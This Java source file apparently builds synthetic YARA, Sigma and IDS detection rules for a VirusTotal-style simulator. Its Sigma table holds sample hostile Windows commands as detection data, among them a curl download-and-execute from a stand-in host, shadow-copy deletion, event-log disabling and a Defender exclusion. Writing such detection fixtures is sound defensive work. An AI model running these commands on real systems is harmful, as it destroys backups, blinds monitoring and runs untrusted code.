package io.vtsql.simulator.corpus.gen;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vtsql.simulator.corpus.ObjectTypes;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * The crowdsourced detection rules of a generated corpus: YARA rulesets (one per malware family,
 * malpedia-style, plus a few generic ones) with their rules, Sigma rules and Snort/Suricata IDS
 * rules. Files' {@code crowdsourced_*} results and sandbox reports cite only these.
 */
final class CrowdsourcedRules {

  static final long SALT = 61;
  private static final String MALPEDIA = "https://github.com/malpedia/signator-rules";
  private static final String SIGNATOR = "Felix Bilstein - yara-signator at cocacoding dot com";
  private static final String SIGMA_SOURCE = "Sigma Integrated Rule Set (GitHub)";
  static final String IDS_SOURCE = "Proofpoint Emerging Threats Open";

  /** Generic rulesets that match Windows executables. */
  static final List<String> PE_RULESETS =
      List.of("gen_susp_indicators", "packer_signatures", "capabilities", "crypto_signatures");

  private static final String[] CATEGORIES = {
    "trojan", "downloader", "dropper", "ransomware", "banker", "spyware", "miner", "pua"
  };

  /** One YARA rule; its id is {@code <ruleset id>|<name>}. */
  record YaraRule(
      String rulesetId,
      String rulesetName,
      String source,
      String name,
      String author,
      String description,
      List<String> tags,
      List<String> threatCategories,
      boolean enabled,
      long created,
      long included,
      long modified,
      int matches) {
    String id() {
      return rulesetId + "|" + name;
    }
  }

  /** One YARA ruleset and its rules. */
  record YaraRuleset(String id, String name, String source, List<YaraRule> rules) {}

  /** One Sigma rule (id: 64 hex, as VirusTotal's). */
  record SigmaRule(
      String id,
      String title,
      String level,
      String author,
      String description,
      String logCategory,
      String image,
      String commandLine) {}

  /** One IDS rule as cited by {@code crowdsourced_ids_results}. */
  record IdsRule(String id, String message, String severity, String category) {}

  // Generic rulesets: name, source, author, then rule name / description pairs.
  private static final String[][] GENERIC = {
    {
      "gen_susp_indicators",
      "https://github.com/Neo23x0/signature-base",
      "Florian Roth (Nextron Systems)",
      "SUSP_Base64_Encoded_PE",
      "Detects a base64 encoded executable",
      "SUSP_PowerShell_Download_Cradle",
      "Detects a PowerShell download cradle",
      "SUSP_Run_Key_Persistence",
      "Detects strings used to persist through a Run key"
    },
    {
      "packer_signatures",
      "https://github.com/Yara-Rules/rules",
      "Jaume Martin",
      "UPX_Packed_Executable",
      "Detects executables packed with UPX",
      "Themida_Protected",
      "Detects executables protected with Themida",
      "ConfuserEx_Obfuscated",
      "Detects .NET assemblies obfuscated with ConfuserEx"
    },
    {
      "capabilities",
      "https://github.com/Yara-Rules/rules",
      "x0r",
      "network_http",
      "Communications over HTTP",
      "win_registry",
      "Affect system registries",
      "anti_dbg",
      "Checks if being debugged"
    },
    {
      "crypto_signatures",
      "https://github.com/Yara-Rules/rules",
      "_pusher_",
      "RijnDael_AES",
      "RijnDael AES constants",
      "CRC32_poly_Constant",
      "Look for CRC32 polynomial constants"
    },
    {
      "office_macros",
      "https://github.com/InQuest/yara-rules-vt",
      "InQuest Labs",
      "Office_AutoOpen_Macro",
      "Detects Office documents with an auto-open macro",
      "Office_Document_with_Embedded_PE",
      "Detects Office documents embedding a PE"
    },
    {
      "ditekshen_indicators",
      "https://github.com/ditekshen/detection",
      "ditekSHen",
      "INDICATOR_SUSPICIOUS_EXE_UACBypass",
      "Detects executables that bypass UAC",
      "INDICATOR_SUSPICIOUS_GENRansomware",
      "Detects command variations typical of ransomware"
    },
  };

  // Sigma rules: title, level, author, description, log category, image, command line.
  private static final String[][] SIGMA = {
    {
      "Process Creation Using Sysnative Folder",
      "medium",
      "Max Altgelt",
      "Detects process creation events that use the Sysnative folder",
      "process_creation",
      "C:\\Windows\\Sysnative\\cmd.exe",
      "cmd.exe /c whoami"
    },
    {
      "Suspicious Run Key from Download",
      "high",
      "Florian Roth (Nextron Systems)",
      "Detects a Run key that points to a file in a download folder",
      "registry_set",
      "C:\\Windows\\System32\\reg.exe",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd" + " /d %TEMP%\\u.exe"
    },
    {
      "Shadow Copies Deletion Using Operating System Utilities",
      "high",
      "Florian Roth",
      "Detects shadow copies being deleted, a common ransomware step",
      "process_creation",
      "C:\\Windows\\System32\\vssadmin.exe",
      "vssadmin.exe delete shadows /all /quiet"
    },
    {
      "Non Interactive PowerShell Process Spawned",
      "low",
      "Roberto Rodriguez",
      "Detects PowerShell started by a process other than explorer",
      "process_creation",
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell.exe -NoProfile -WindowStyle Hidden"
    },
    {
      "Suspicious Encoded PowerShell Command Line",
      "high",
      "Florian Roth (Nextron Systems)",
      "Detects a PowerShell command line carrying a base64 encoded command",
      "process_creation",
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
    },
    {
      "Creation of an Executable by an Executable",
      "low",
      "frack113",
      "Detects an executable file written by another executable",
      "file_event",
      "C:\\Users\\user\\AppData\\Local\\Temp\\setup.exe",
      ""
    },
    {
      "Scheduled Task Creation Via Schtasks.EXE",
      "low",
      "Florian Roth (Nextron Systems)",
      "Detects the creation of scheduled tasks by a user",
      "process_creation",
      "C:\\Windows\\System32\\schtasks.exe",
      "schtasks.exe /create /sc minute /mo 5 /tn Updater /tr %APPDATA%\\upd.exe"
    },
    {
      "Windows Defender Exclusions Added via Registry",
      "medium",
      "Christian Burkard",
      "Detects paths added to the Windows Defender exclusions",
      "registry_set",
      "C:\\Windows\\System32\\reg.exe",
      "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\""
    },
    {
      "Hiding Files with Attrib.exe",
      "low",
      "Sami Ruohonen",
      "Detects usage of attrib.exe to hide files from users",
      "process_creation",
      "C:\\Windows\\System32\\attrib.exe",
      "attrib.exe +h +s C:\\ProgramData\\x"
    },
    {
      "Suspicious Svchost Process",
      "critical",
      "Florian Roth (Nextron Systems)",
      "Detects a suspicious svchost process started by an unusual parent",
      "process_creation",
      "C:\\Users\\user\\AppData\\Roaming\\svchost.exe",
      "svchost.exe -k netsvcs"
    },
    {
      "Curl Download And Execute Combination",
      "medium",
      "Sreeman",
      "Detects curl downloading a file and running it in one command line",
      "process_creation",
      "C:\\Windows\\System32\\curl.exe",
      "cmd.exe /c curl -o %TEMP%\\a.exe http://x/a.exe & start %TEMP%\\a.exe"
    },
    {
      "Disable Windows Event Logging Via Registry",
      "critical",
      "frack113",
      "Detects the event log service being disabled through the registry",
      "registry_set",
      "C:\\Windows\\System32\\reg.exe",
      "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog /v Start /d 4"
    },
  };

  // IDS rules: sid, message, severity, category.
  private static final String[][] IDS = {
    {
      "1:2027758", "ET INFO Observed DNS Query for Suspicious TLD", "low", "Potentially Bad Traffic"
    },
    {"1:2024897", "ET USER_AGENTS Go HTTP Client User-Agent", "low", "Misc activity"},
    {
      "1:2018959",
      "ET POLICY PE EXE or DLL Windows file download HTTP",
      "medium",
      "Potential Corporate Privacy Violation"
    },
    {"1:2031412", "ET MALWARE Generic Trojan CnC Beacon", "high", "A Network Trojan was detected"},
    {
      "1:2036289",
      "ET MALWARE Observed Malicious SSL Cert (Stealer CnC)",
      "high",
      "A Network Trojan was detected"
    },
    {"1:2013028", "ET POLICY curl User-Agent Outbound", "info", "Attempted Information Leak"},
  };

  private final List<YaraRuleset> rulesets = new ArrayList<>();
  private final Map<String, YaraRule> familyRules = new LinkedHashMap<>();
  private final List<YaraRule> genericRules = new ArrayList<>();
  private final List<SigmaRule> sigmaRules = new ArrayList<>();
  private final List<IdsRule> idsRules = new ArrayList<>();

  CrowdsourcedRules(long seed) {
    int index = 0;
    for (String family : families()) {
      SplittableRandom rng = Gen.rng(seed, SALT, index);
      String prefix = prefix(family);
      String id = Gen.hex(rng, 10);
      String setName = prefix + "." + family + "_auto";
      YaraRule rule =
          rule(
              rng,
              id,
              setName,
              MALPEDIA,
              prefix + "_" + family + "_auto",
              SIGNATOR,
              "Detects " + prefix + "." + family + ".",
              List.of(),
              index);
      rulesets.add(new YaraRuleset(id, setName, MALPEDIA, List.of(rule)));
      familyRules.put(family, rule);
      index++;
    }
    for (String[] row : GENERIC) {
      SplittableRandom rng = Gen.rng(seed, SALT, index);
      String id = Gen.hex(rng, 10);
      List<YaraRule> rules = new ArrayList<>();
      for (int k = 3; k + 1 < row.length; k += 2) {
        rules.add(
            rule(
                rng,
                id,
                row[0],
                row[1],
                row[k],
                row[2],
                row[k + 1],
                List.of(row[0].split("_")[0]),
                index));
        index++;
      }
      rulesets.add(new YaraRuleset(id, row[0], row[1], List.copyOf(rules)));
      genericRules.addAll(rules);
    }
    for (int i = 0; i < SIGMA.length; i++) {
      String[] s = SIGMA[i];
      String id = Gen.hex(Gen.rng(seed, SALT + 1, i), 64);
      sigmaRules.add(new SigmaRule(id, s[0], s[1], s[2], s[3], s[4], s[5], s[6]));
    }
    for (String[] r : IDS) {
      idsRules.add(new IdsRule(r[0], r[1], r[2], r[3]));
    }
  }

  private static YaraRule rule(
      SplittableRandom rng,
      String rulesetId,
      String rulesetName,
      String source,
      String name,
      String author,
      String description,
      List<String> tags,
      int index) {
    long created = Gen.date(rng, Gen.EARLIEST, Gen.REFERENCE - 86_400L * 200);
    long included = Gen.date(rng, created, created + 86_400L * 30);
    long modified = Gen.date(rng, included, Gen.REFERENCE - 86_400);
    List<String> categories =
        new ArrayList<>(
            new LinkedHashSet<>(List.of(Gen.pick(rng, CATEGORIES), Gen.pick(rng, CATEGORIES))));
    int matches = (int) Math.round(Math.exp(rng.nextDouble() * 9));
    return new YaraRule(
        rulesetId,
        rulesetName,
        source,
        name,
        author,
        description,
        tags,
        List.copyOf(categories),
        index % 9 != 8,
        created,
        included,
        modified,
        matches);
  }

  /** Every family the file generator names, in a stable order. */
  private static List<String> families() {
    LinkedHashSet<String> all = new LinkedHashSet<>();
    for (FileType type : FileType.values()) {
      all.addAll(type.families);
    }
    return List.copyOf(all);
  }

  /** The malpedia platform prefix of a family: the platform of the first type naming it. */
  private static String prefix(String family) {
    for (FileType type : FileType.values()) {
      if (type.families.contains(family)) {
        return type.isPe()
            ? "win"
            : type == FileType.ELF
                ? "elf"
                : type == FileType.APK ? "apk" : type == FileType.JAVASCRIPT ? "js" : type.tag;
      }
    }
    throw new IllegalArgumentException(family);
  }

  List<YaraRuleset> rulesets() {
    return rulesets;
  }

  /** Every YARA rule, ruleset by ruleset. */
  List<YaraRule> yaraRules() {
    List<YaraRule> all = new ArrayList<>();
    rulesets.forEach(r -> all.addAll(r.rules()));
    return all;
  }

  /** The malpedia rule of a family, if the family is one the generator names. */
  YaraRule familyRule(String family) {
    return familyRules.get(family);
  }

  /** The generic rules of the named rulesets, in catalogue order. */
  List<YaraRule> genericRules(List<String> rulesetNames) {
    return genericRules.stream().filter(r -> rulesetNames.contains(r.rulesetName())).toList();
  }

  List<SigmaRule> sigmaRules() {
    return sigmaRules;
  }

  List<IdsRule> idsRules() {
    return idsRules;
  }

  /** The {@code yara_ruleset} object, shaped like capture octi_yara_ruleset_get.json. */
  static ObjectNode ruleset(YaraRuleset set) {
    ObjectNode object = envelope("yara_ruleset", set.id());
    ObjectNode a = (ObjectNode) object.get("attributes");
    StringBuilder text = new StringBuilder();
    set.rules().forEach(r -> text.append(text.length() == 0 ? "" : "\n\n").append(ruleText(r)));
    a.put("rules", text.toString());
    a.put("source", set.source());
    a.put("name", set.name());
    return object;
  }

  /** The {@code yara_rule} object (docs: reference/yara-rule). */
  static ObjectNode yaraRule(YaraRule r) {
    ObjectNode object = envelope("yara_rule", r.id());
    ObjectNode a = (ObjectNode) object.get("attributes");
    a.put("name", r.name());
    ArrayNode categories = a.putArray("threat_categories");
    r.threatCategories().forEach(categories::add);
    a.put("author", r.author());
    a.put("matches", r.matches());
    a.put("enabled", r.enabled());
    a.put("rule", ruleText(r));
    a.put("creation_date", r.created());
    a.put("included_date", r.included());
    ArrayNode tags = a.putArray("tags");
    r.tags().forEach(tags::add);
    ArrayNode meta = a.putArray("meta");
    meta.addObject().put("key", "description").put("value", r.description());
    meta.addObject().put("key", "author").put("value", r.author());
    meta.addObject()
        .put("key", "date")
        .put("value", java.time.LocalDate.ofEpochDay(r.created() / 86_400).toString());
    a.put("last_modification_date", r.modified());
    return object;
  }

  /** The {@code sigma_rule} object (docs: reference/sigma-rule-object). */
  static ObjectNode sigmaRule(SigmaRule s) {
    ObjectNode object = envelope("sigma_rule", s.id());
    ObjectNode a = (ObjectNode) object.get("attributes");
    a.put("title", s.title());
    a.put("description", s.description());
    a.put("author", s.author());
    a.put("level", s.level());
    a.put("status", s.level().equals("low") ? "experimental" : "stable");
    a.put("source", SIGMA_SOURCE);
    ObjectNode detection = a.putObject("detection");
    detection.put("condition", "selection");
    detection
        .putObject("details")
        .put(
            "selection",
            "{\"Image\":\"*\\\\" + s.image().substring(s.image().lastIndexOf('\\') + 1) + "\"}");
    a.putArray("false_positives").add("Unknown");
    a.putArray("fields").add("CommandLine").add("ParentCommandLine");
    ObjectNode log = a.putObject("log_source");
    log.put("category", s.logCategory());
    log.put("product", "windows");
    a.putArray("references").add("https://github.com/SigmaHQ/sigma");
    a.putArray("tags").add("attack.execution");
    return object;
  }

  static String sigmaSource() {
    return SIGMA_SOURCE;
  }

  private static String ruleText(YaraRule r) {
    return "rule "
        + r.name()
        + " {\n    meta:\n        author = \""
        + r.author()
        + "\"\n        description = \""
        + r.description()
        + "\"\n    strings:\n"
        + "        $s0 = { 8b 45 ?? 50 e8 ?? ?? ?? ?? 83 c4 04 }\n    condition:\n"
        + "        all of them\n}";
  }

  private static ObjectNode envelope(String type, String id) {
    ObjectNode object = JsonNodeFactory.instance.objectNode();
    object.putObject("attributes");
    object.put("type", type);
    object.put("id", id);
    object.putObject("links").put("self", ObjectTypes.selfLink(type, id));
    return object;
  }
}
